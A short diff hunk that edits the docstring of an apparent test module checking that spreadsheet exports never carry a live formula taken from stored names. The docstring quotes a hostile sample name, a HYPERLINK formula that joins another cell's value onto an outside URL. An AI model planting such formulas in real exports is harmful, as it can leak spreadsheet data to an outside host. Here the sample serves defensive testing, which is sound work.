@@ -1,4 +1,4 @@
-"""Spreadsheet formula injection (issue 11 item 8): no export carries a live formula from stored text.
+"""Spreadsheet formula injection: no export carries a live formula from stored text.
 
 Names such as `=HYPERLINK("http://x"&D2,"x")` can no longer be registered, but older data (or a name stored
 before the rule) must still come out harmless. The hostile names are written straight through the
